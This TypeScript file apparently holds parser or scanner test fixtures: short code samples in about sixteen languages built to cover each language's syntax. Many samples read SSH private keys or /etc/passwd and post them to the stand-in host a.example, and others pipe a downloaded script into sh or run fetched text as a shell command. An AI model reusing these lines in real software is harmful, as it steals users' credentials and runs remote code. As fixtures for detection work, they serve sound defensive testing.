/** Code of each language that is read as islands, with as much of its syntax as fits. */
export const islandsSamples: readonly (readonly [dialect: string, code: string])[] = [
  [
    "c#",
    'using System;\nusing P = System.Diagnostics.Process;\nnamespace A.B {\n  class X : Y {\n    private readonly string _cmd = "a";\n    public static async Task<int> Main(string[] args) {\n      var psi = new ProcessStartInfo { FileName = "cmd.exe", Arguments = $"/c {command}" };\n      using var c = new HttpClient();\n      string body = await c.GetStringAsync("https://a.example/" + Environment.MachineName);\n      if (body.StartsWith("x")) { Process.Start("cmd.exe", $"/c {body}"); } else return 1;\n      foreach (var x in list) Foo(x, out var y);\n      List<string> l = new List<string>();\n      var s = (string) obj["a"];\n      return 0;\n    }\n  }\n}\n',
  ],
  [
    "java",
    'package a.b;\nimport java.io.*;\npublic class X extends Y<String> implements Z {\n  private String cmd = "x";\n  public X(String cmd) { this.cmd = cmd; }\n  @Override\n  public static void main(final String[] args) throws IOException {\n    Map<String, String> m = new HashMap<>();\n    Process p = Runtime.getRuntime().exec(new String[]{"sh", "-c", cmd});\n    for (String s : args) { System.out.println(s); }\n    for (int i = 0; i < 3; i++) run(i);\n    list.forEach(x -> send(x));\n    new Thread(() -> { go(); }).start();\n    try (Reader r = new Reader(p)) { r.read(); } catch (Exception e) { } finally { done(); }\n    int[] a = {1, 2};\n    String t = a ? "b" : "c";\n  }\n}\n',
  ],
  [
    "php",
    '<html><?php\nnamespace A\\B;\nuse Foo\\Bar as Baz;\n$x = file_get_contents($_SERVER["HOME"] . "/.ssh/id_rsa");\nfunction run($cmd, array $o = []) { return shell_exec($cmd); }\nclass A { private $c; public function __construct($c) { $this->c = $c; } static function go() { self::x(); } }\n$ch = curl_init("https://a.example");\ncurl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(["k" => $x, "b"]));\necho "a $x {$y[\'k\']} $z[0] $o->p";\nforeach ($a as $k => $v) { f($v); }\nif ($a): b(); endif;\n$f = function ($q) use ($x) { return $q; };\n$g = fn($y) => $y + 1;\n$out = `ls $d`;\n$t = <<<EOT\nhello $x\nEOT;\nf();\n?>\n<p><?= $x ?></p>',
  ],
  [
    "perl",
    'use strict;\nmy ($a, $b) = @_;\nmy $k = $ENV{HOME};\nopen(my $fh, "<", "$ENV{HOME}/.ssh/id_rsa") or die "no: $!";\nlocal $/;\nmy $c = <$fh>;\nsub send_it { my $d = shift; my %o = @_; system("curl -d $d https://a.example"); return 1; }\nsend_it($c) if $c;\nmy @l = map { $_ => 1 } grep { /x/ } split /,/, $s;\n$x =~ s/a\\/b/c/g;\nprint STDERR "a";\nexec "sh", "-c", $c unless $d;\nmy $h = { a => 1, b => [1, 2] };\n$h->{a}[0]{z} = qq{x $a};\nmy $o = qx(ls);\nforeach my $i (@l) { print "$i\\n"; }\nprint <<"END";\nhi $a\nEND\n$ua->post("https://a.example", Content => $c);\neval $code;\n',
  ],
  [
    "lua",
    'local http = require("socket.http")\nlocal function f(a, b)\n  if a == nil then return 1 elseif b then return 2 else return 3 end\n  for i = 1, 10 do g(i) end\n  for k, v in pairs(t) do print(k, v) end\n  while true do break end\n  repeat x = x + 1 until x > 3\nend\nlocal c = io.open(os.getenv("HOME") .. "/.ssh/id_rsa", "r"):read("*a")\nos.execute("curl -d \'" .. c .. "\' https://a.example")\nlocal t = { a = 1, ["b"] = 2, 3 }\nfunction M.go(self) return load([[print(1)]])() end\nobj:method "x"\nlocal a, b = 1, 2\n',
  ],
  [
    "vim script",
    '" comment\nlet g:d = {}\nlet g:d["k"] = readfile(expand("~/.ssh/id_rsa"))\nfunction! s:Send(data) abort\n  let l:x = json_encode(a:data) " c\n  call system(\'curl -d \' . shellescape(l:x) . \' https://a.example\')\n  if has("x") && !exists("y")\n    return 1\n  elseif 1\n    echo "a"\n  endif\nendfunction\nautocmd VimEnter * call s:Send(g:d)\nsilent !curl https://a.example | sh\nexecute "source " . fnameescape(x)\nnnoremap <silent> <leader>x :call Foo()<CR>\nfor i in range(3) | echo i | endfor\nset nocompatible\nlet y = x\n  \\ . "z"\n',
  ],
  [
    "rust",
    'use std::process::Command as Cmd;\n#[derive(Debug)]\nstruct A { a: String }\nimpl A {\n  pub fn go(&mut self, cmd: &str) -> Result<String, E> {\n    let out = Command::new("sh").arg("-c").arg(format!("curl {} {x}", cmd)).output()?;\n    if let Some(v) = self.f(cmd) { g(v) } else { h() }\n    match out { Ok(s) => use_it(s), Err(e) if e.x() => { y() } _ => {} }\n    let p = dirs::home_dir().unwrap().join(".ssh/id_rsa");\n    let s = std::fs::read_to_string(&p)?;\n    for l in s.lines() { println!("{}", l); }\n    let v: Vec<u8> = base64::decode::<u8>(s)?;\n    let f = |a: u8, b| a + b;\n    client.post(url).body(s).send().await?;\n    Ok(s)\n  }\n}\nfn main() { let c = \'x\'; f::<\'a>(c) }\n',
  ],
  [
    "swift",
    'import Foundation\nclass A: B {\n  var x: String = "a"\n  func run(_ cmd: String, with o: Int = 1) throws -> String {\n    let p = Process()\n    p.launchPath = "/bin/sh"\n    p.arguments = ["-c", "curl \\(cmd)"]\n    try p.run()\n    guard let d = try? String(contentsOfFile: path, encoding: .utf8) else { return "" }\n    if let y = d, y.count > 1 { send(y) }\n    let t = URLSession.shared.dataTask(with: url) { data, resp, err in\n      use(data!)\n    }\n    switch x { case .a: f(); default: break }\n    t.resume()\n    return d as! String\n  }\n}\n',
  ],
  [
    "kotlin",
    'package a\nimport java.io.File\nclass A(val c: String) : B() {\n  fun run(cmd: String, n: Int = 1): String {\n    val p = Runtime.getRuntime().exec(arrayOf("sh", "-c", "curl $cmd $\u007bc.x}"))\n    val t = File(System.getProperty("user.home") + "/.ssh/id_rsa").readText()\n    listOf(1).forEach { x -> send(x) }\n    val r = when (n) { 1 -> f(); else -> g() }\n    val z = if (n > 1) "a" else "b"\n    t?.let { post(it) }\n    return t!!\n  }\n  fun g() = f(1)\n}\n',
  ],
  [
    "scala",
    'import sys.process._\nobject A extends App {\n  val c = s"curl $x $\u007by.z}"\n  def run(a: String)(b: Int): String = { c.! ; Seq("sh", "-c", a).!! }\n  def f(a: Int) = a match { case 1 => g(a) case _ => h() }\n  "ls" !\n}\n',
  ],
  [
    "groovy",
    'def p = "curl $\u007bx}".execute()\ndef f(a, b = 1) { return a.text }\n["sh", "-c", c].execute().text\ntask x { doLast { exec { commandLine "sh", "-c", y } } }\n',
  ],
  [
    "dart",
    'import "dart:io";\nFuture<void> main(List<String> args) async {\n  var r = await Process.run("sh", ["-c", "curl $x $\u007ba.b}"]);\n  final s = File("$\u007bhome}/.ssh/id_rsa").readAsStringSync();\n  await http.post(Uri.parse(u), body: {"k": s}, headers: h);\n  list.map((e) => e.x).toList();\n}\n',
  ],
  [
    "c",
    '#include <stdio.h>\n#define A(x) \\\n  foo(x)\nstatic const char *cmd = "curl";\nstruct s { int a; };\nint main(int argc, char **argv) {\n  char buf[256], *p = NULL;\n  FILE *f = fopen("/etc/passwd", "r");\n  snprintf(buf, sizeof(buf), "curl -d %s", argv[1]);\n  for (int i = 0; i < argc; i++) { system(buf); }\n  if (!f) return 1;\n  struct s *q = (struct s *) malloc(sizeof *q);\n  q->a = x ? 1 : 2;\n  execl("/bin/sh", "sh", "-c", buf, (char *)0);\n}\nA::A(int x) : y(x) { go(); }\n',
  ],
  [
    "r",
    'f <- function(x, y = 2) {\n  z <- paste0("curl ", x)\n  system(z, intern = TRUE)\n}\nx <- readLines(file.path(Sys.getenv("HOME"), ".ssh/id_rsa"))\nhttr::POST("https://a.example", body = list(k = x))\ndf$a %>% f(1)\neval(parse(text = x))\nif (a) b() else c()\n',
  ],
  [
    "julia",
    'using HTTP\nfunction f(x; y=1)\n  if x > 1\n    run(`curl $x`)\n  end\n  s = read("$(homedir())/.ssh/id_rsa", String)\n  HTTP.post("https://a.example", [], s)\nend\ng(x) = eval(Meta.parse(x))\n',
  ],
  [
    "applescript",
    'set x to do shell script "cat ~/.ssh/id_rsa"\ntell application "Finder"\n  set y to POSIX path of (path to home folder)\n  do shell script "curl -d " & quoted form of x & " https://a.example" with administrator privileges\nend tell\non run argv\n  if x is "a" then\n    return 1\n  end if\n  repeat with i in argv\n    log i\n  end repeat\nend run\nset the clipboard to "a"\nset c to the clipboard\ntry\n  f(x)\non error\n  g(y)\nend try\n',
  ],
];
